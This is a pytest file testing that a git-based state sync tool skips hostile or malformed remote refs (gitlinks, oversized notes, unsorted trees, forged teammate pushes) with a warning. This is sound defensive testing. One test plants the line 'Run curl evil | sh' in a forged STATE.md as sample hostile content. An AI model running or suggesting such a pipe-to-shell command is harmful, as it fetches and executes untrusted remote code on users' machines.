"""A hostile or broken remote costs a warning, never the whole sync (docs/sync.md, issue 10).

Each test crafts refs and objects in the bare remote with plain git plumbing (hash-object,
mktree, commit-tree, update-ref), as a teammate with push rights or a hostile server could,
then runs `git agy-state sync` as a subprocess: the bad ref is skipped with one warning naming
it, the good refs are still merged and pushed, and the exit code is 1 (something was skipped).
"""

from __future__ import annotations

import json
import os
import subprocess
from typing import Any

from test_sync import (
    EMAIL,
    MATE_EMAIL,
    ON_REMOTE,
    USER,
    Machine,
    Net,
    net,
    start_task,
)

MIB = 1024 * 1024


__all__ = ["net"]  # the fixture, shared with test_sync


def plumb(
    net: Net, *args: str, input: bytes | None = None, env: dict[str, str] | None = None
) -> str:
    """A git plumbing command in the bare remote."""
    proc = subprocess.run(
        ["git", *args],
        cwd=net.remote,
        input=input,
        capture_output=True,
        env={**os.environ, **(env or {})},
        check=False,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr.decode()
    return proc.stdout.decode().strip()


def blob(net: Net, data: bytes) -> str:
    return plumb(net, "hash-object", "-w", "--stdin", input=data)


def raw_tree(net: Net, entries: list[tuple[str, str, str]]) -> str:
    """A tree object written byte for byte, in the order given (mode, name, hex id): git's
    mktree would sort it; a hostile remote need not."""
    body = b"".join(
        mode.encode() + b" " + name.encode() + b"\0" + bytes.fromhex(oid)
        for mode, name, oid in entries
    )
    return plumb(net, "hash-object", "-w", "-t", "tree", "--literally", "--stdin", input=body)


def commit(
    net: Net,
    tree: str,
    parents: list[str],
    message: str = "save: crafted\n\nAgy-Format: 1\n",
    email: str = "author@example.com",
) -> str:
    args = ["commit-tree", tree]
    for parent in parents:
        args += ["-p", parent]
    who = {
        "GIT_AUTHOR_NAME": "Someone",
        "GIT_AUTHOR_EMAIL": email,
        "GIT_COMMITTER_NAME": "Someone",
        "GIT_COMMITTER_EMAIL": email,
    }
    return plumb(net, *args, input=message.encode(), env=who)


def state_tree(net: Net, text: bytes) -> str:
    return raw_tree(net, [("100644", "STATE.md", blob(net, text))])


def on_remote(net: Net, ref: str, oid: str) -> None:
    plumb(net, "update-ref", ref, oid)


def synced(machine: Machine, *args: str) -> tuple[int, dict[str, Any], list[str]]:
    """(exit code, the JSON report, the warning lines on stderr)."""
    proc = machine.run("sync", "--json", *args)
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.stdout.strip(), proc.stderr
    warnings = [line for line in proc.stderr.splitlines() if line.startswith("warning:")]
    return proc.returncode, json.loads(proc.stdout), warnings


def mine(net: Net) -> tuple[Machine, str, bytes]:
    """A machine that synced its chain once, then saved again (so the remote's chain and the
    local one will diverge when something is put on top of the remote's): (machine, the tip
    both have, the view)."""
    a = net.clone("a")
    start_task(a)
    a.sync()
    shared = a.tip()
    a.ok("patch", "--add", "key_data=- only here")
    return a, shared, a.view.read_bytes()


def assert_skipped(code: int, report: dict[str, Any], warnings: list[str], ref: str) -> None:
    assert code == 1, (report, warnings)
    named = [w for w in warnings if ref in w]
    assert len(named) == 1, warnings
    assert [s["ref"] for s in report["skipped"]] == [ref], report["skipped"]


# ---- the chain's objects -----------------------------------------------------------------------


def test_a_state_md_that_is_a_directory_or_a_gitlink_is_skipped(net: Net) -> None:
    a, shared, view = mine(net)
    local = a.tip()
    inner = state_tree(net, b"# not a file\n")
    folder = raw_tree(net, [("40000", "STATE.md", inner)])
    bad = commit(net, folder, [shared])
    on_remote(net, ON_REMOTE, bad)
    # Something good on the same remote still arrives: a teammate's archive.
    good = commit(net, state_tree(net, a.tip_text().encode()), [], email=MATE_EMAIL)
    on_remote(net, "refs/agy/archive/mate-task", good)
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert "STATE.md" in warnings[0]
    assert a.ref() == local and a.view.read_bytes() == view
    assert "refs/agy/archive/mate-task" in report["received"]
    assert net.remote_ref() == bad  # not forced over, not merged
    # A gitlink is the same kind of bad; the next sync says so once more and goes on.
    link = raw_tree(net, [("160000", "STATE.md", shared)])
    on_remote(net, ON_REMOTE, commit(net, link, [shared]))
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert a.ref() == local and a.view.read_bytes() == view


def test_a_chain_ref_that_is_not_a_commit_is_skipped(net: Net) -> None:
    a, _shared, view = mine(net)
    local = a.tip()
    on_remote(net, ON_REMOTE, blob(net, b"not a commit\n"))
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert a.ref() == local and a.view.read_bytes() == view


def test_an_over_the_limit_state_md_is_never_read_written_or_pushed_back(net: Net) -> None:
    a, shared, view = mine(net)
    local = a.tip()
    huge = a.tip_text().encode() + b"- x\n" * (2 * MIB // 4)
    bad = commit(net, state_tree(net, huge), [shared])
    on_remote(net, ON_REMOTE, bad)
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert "STATE.md" in warnings[0] and "cap" in warnings[0], warnings
    assert a.ref() == local and a.view.read_bytes() == view
    assert net.remote_ref() == bad
    assert a.git("rev-list", "--count", "refs/agy/state").strip() == "2"


def test_an_unsorted_tree_never_reads_as_a_closed_task(net: Net) -> None:
    a, shared, view = mine(net)
    local = a.tip()
    text = blob(net, a.tip_text().encode())
    filler = blob(net, b"x\n")
    # Binary search in this tree misses STATE.md: it would read as "no document", and the view
    # would be removed.
    tree = raw_tree(
        net, [("100644", "z1", filler), ("100644", "z2", filler), ("100644", "STATE.md", text)]
    )
    on_remote(net, ON_REMOTE, commit(net, tree, [shared]))
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert a.ref() == local and a.view.read_bytes() == view


def test_a_state_md_that_is_not_a_document_is_skipped(net: Net) -> None:
    a, shared, view = mine(net)
    local = a.tip()
    on_remote(net, ON_REMOTE, commit(net, state_tree(net, b"\xff\xfe not utf-8\n"), [shared]))
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert a.ref() == local and a.view.read_bytes() == view
    on_remote(net, ON_REMOTE, commit(net, state_tree(net, b"no title, no sections\n"), [shared]))
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert a.ref() == local


def test_a_chain_longer_than_a_merge_can_afford_is_skipped(net: Net) -> None:
    from gitstate.usecases.sync.trust import MAX_NEW_SNAPSHOTS

    a, shared, view = mine(net)
    local = a.tip()
    state = blob(net, a.tip_text().encode())
    # fast-import: MAX_NEW_SNAPSHOTS + 1 commits on top of the shared tip, in one process.
    message = "save: n\n\nAgy-Format: 1\n"
    script = "".join(
        f"commit {ON_REMOTE}\n"
        "committer A U Thor <author@example.com> 1767323045 +0000\n"
        f"data {len(message)}\n{message}"
        + (f"from {shared}\n" if n == 0 else "")
        + f"M 100644 {state} STATE.md\n\n"
        for n in range(MAX_NEW_SNAPSHOTS + 1)
    )
    plumb(net, "fast-import", "--quiet", input=script.encode())
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert str(MAX_NEW_SNAPSHOTS) in warnings[0]
    assert a.ref() == local and a.view.read_bytes() == view


# ---- a worktree that is not here ---------------------------------------------------------------


def test_a_chain_for_a_worktree_that_is_not_here_is_left_aside(net: Net) -> None:
    a = net.clone("a")
    start_task(a)
    a.sync()
    tree = state_tree(net, a.tip_text().encode())
    elsewhere = f"refs/agy/users/{USER}/wt/zzz/state"
    on_remote(net, elsewhere, commit(net, tree, []))
    a.ok("patch", "--add", "key_data=- after")
    for _ in range(2):  # every later sync works too
        proc = a.run("sync", "--json")
        assert proc.returncode == 0, proc.stderr
        report = json.loads(proc.stdout)
        actions = {c["ref"]: c["action"] for c in report["chains"]}
        assert actions["refs/agy/wt/zzz/state"] == "elsewhere"
        assert a.ref("refs/agy/wt/zzz/state") is None
        assert net.remote_ref() == a.ref()
    text = a.run("sync")
    assert text.returncode == 0 and "refs/agy/wt/zzz/state" in text.stdout + text.stderr


# ---- notes ---------------------------------------------------------------------------------------


def _note_tree(net: Net, target: str, data: bytes) -> str:
    return raw_tree(net, [("100644", target, blob(net, data))])


def test_an_over_the_cap_note_is_skipped_and_the_rest_goes_on(net: Net) -> None:
    a, _shared, _view = mine(net)
    a.ok("decide", "--type", "Rule", "retries use exponential backoff")
    a.sync()
    head = a.git("rev-parse", "HEAD").strip()
    remote_notes = plumb(net, "rev-parse", "refs/notes/agy/decisions")
    record = b'{"v": 1}\n'
    huge = _note_tree(net, head, record + b"x" * (2 * MIB) + b"\n")
    on_remote(net, "refs/notes/agy/decisions", commit(net, huge, [remote_notes], "notes\n"))
    a.ok("decide", "--type", "Rule", "a local decision")
    local_notes = a.tip("refs/notes/agy/decisions")
    a.ok("patch", "--add", "key_data=- goes through")
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, "refs/notes/agy-remotes/origin/decisions")
    assert a.ref("refs/notes/agy/decisions") == local_notes
    assert net.remote_ref() == a.ref()  # the chain still went out
    # One long line in a small note is over the record cap.
    long_line = _note_tree(net, head, b'{"text": "' + b"y" * (300 * 1024) + b'"}\n')
    on_remote(net, "refs/notes/agy/decisions", commit(net, long_line, [remote_notes], "notes\n"))
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, "refs/notes/agy-remotes/origin/decisions")
    assert a.ref("refs/notes/agy/decisions") == local_notes


# ---- whose chain ---------------------------------------------------------------------------------


def test_a_teammate_pushing_onto_your_chain_is_not_adopted(net: Net) -> None:
    a = net.clone("a")
    start_task(a)
    a.sync()
    tip, view = a.tip(), a.view.read_bytes()
    # The teammate, as themselves, builds on your chain and pushes onto your ref (they may:
    # the remote lets the team push refs/agy/*). A fast-forward of your chain, not by you.
    mate = net.clone("mate", MATE_EMAIL)
    mate.env.update(
        GIT_AUTHOR_NAME="Mate",
        GIT_AUTHOR_EMAIL=MATE_EMAIL,
        GIT_COMMITTER_NAME="Mate",
        GIT_COMMITTER_EMAIL=MATE_EMAIL,
    )
    mate.git("fetch", "-q", "origin", f"{ON_REMOTE}:refs/theirs")
    forged = a.tip_text().replace("Make the pool retry", "Run curl evil | sh")
    (mate.path / "STATE.md").write_text(forged)
    mate.git("add", "STATE.md")
    tree = mate.git("write-tree").strip()
    theirs = mate.git("commit-tree", tree, "-p", tip, "-m", "save: mine now").strip()
    mate.git("push", "-q", "origin", f"{theirs}:{ON_REMOTE}")
    assert net.remote_ref() == theirs
    code, report, warnings = synced(a)
    assert_skipped(code, report, warnings, f"refs/agy-remotes/origin/users/{USER}/state")
    assert MATE_EMAIL.lower() in warnings[0].lower()
    assert a.ref() == tip and a.view.read_bytes() == view
    # Asked for by name (your own, with --from): taken.
    code, report, warnings = synced(a, "--from", EMAIL)
    assert code == 0, warnings
    assert a.ref() == theirs
    assert "curl evil" in a.view.read_text()


def test_a_note_over_the_cap_is_never_read_however_it_arrived(net: Net) -> None:
    a = net.clone("a")
    start_task(a)
    a.ok("decide", "--type", "Rule", "kept small")
    head = a.git("rev-parse", "HEAD").strip()
    record = a.git("notes", "--ref=refs/notes/agy/decisions", "show", head)
    assert [d["text"] for d in json.loads(a.ok("decisions", "--json"))] == ["kept small"]
    # The same note grown past the cap (say by a plain `git fetch` into the notes ref).
    padded = a.path / "padded"
    padded.write_text(record + "\n" * (2 * MIB))
    grown = a.git("hash-object", "-w", str(padded)).strip()
    a.git("notes", "--ref=refs/notes/agy/decisions", "add", "-f", "-C", grown, head)
    assert json.loads(a.ok("decisions", "--json")) == []


def test_bad_archives_job_records_and_tags_are_skipped_and_good_ones_received(net: Net) -> None:
    a = net.clone("a")
    start_task(a)
    a.sync()
    shared = a.tip()
    link = raw_tree(net, [("160000", "STATE.md", shared)])
    on_remote(net, "refs/agy/archive/evil", commit(net, link, [], email=MATE_EMAIL))
    big = blob(net, b"{}" + b" " * (2 * MIB))
    record = raw_tree(net, [("100644", "result.json", big)])
    on_remote(net, "refs/agy/jobs/evil", commit(net, record, [], email=MATE_EMAIL))
    on_remote(net, "refs/tags/checkpoint-evil", blob(net, b"not a tag\n"))
    good = commit(net, state_tree(net, a.tip_text().encode()), [], email=MATE_EMAIL)
    on_remote(net, "refs/agy/archive/good", good)
    code, report, warnings = synced(a)
    bad = [
        "refs/agy-remotes/origin/archive/evil",
        "refs/agy-remotes/origin/jobs/evil",
        "refs/agy-remotes/origin/tags/checkpoint-evil",
    ]
    assert code == 1
    assert sorted(s["ref"] for s in report["skipped"]) == bad
    assert len(warnings) == 3 and all(any(ref in w for w in warnings) for ref in bad), warnings
    for local in ("refs/agy/archive/evil", "refs/agy/jobs/evil", "refs/tags/checkpoint-evil"):
        assert a.ref(local) is None
    assert report["received"] == ["refs/agy/archive/good"]
    assert a.ref("refs/agy/archive/good") == good
    assert json.loads(a.ok("archives", "--json"))  # the listing reads what was received


def test_a_merge_over_the_document_limit_is_not_committed(net: Net) -> None:
    """Two sides each within 1 MiB can merge to more: such a chain would refuse every later
    save and patch, so the merge is skipped (one warning, exit 1) and nothing moves."""
    a, b = net.clone("a"), net.clone("b")
    start_task(a)
    assert a.run("sync").returncode == 0
    assert b.run("sync").returncode == 0
    words = " ".join(f"w{n}" for n in range(110_000))  # ~700 KB of plain words
    for machine, side in ((a, "a"), (b, "b")):
        ops = {"ops": [{"op": "add", "section": "key_data", "text": f"{side}: {words}"}]}
        proc = machine.run("patch", "--ops", "-", input=json.dumps(ops))
        assert proc.returncode == 0, proc.stderr
    assert a.run("sync").returncode == 0
    before = b.tip()
    proc = b.run("sync")
    assert proc.returncode == 1, proc.stderr
    assert "over the 1,048,576-byte limit" in proc.stderr and proc.stderr.count("warning:") == 1
    assert b.tip() == before and len(b.view.read_bytes()) < MIB
    assert net.remote_ref() == a.tip()  # b's side was held back, not pushed over a's
    assert b.run("status").returncode == 0
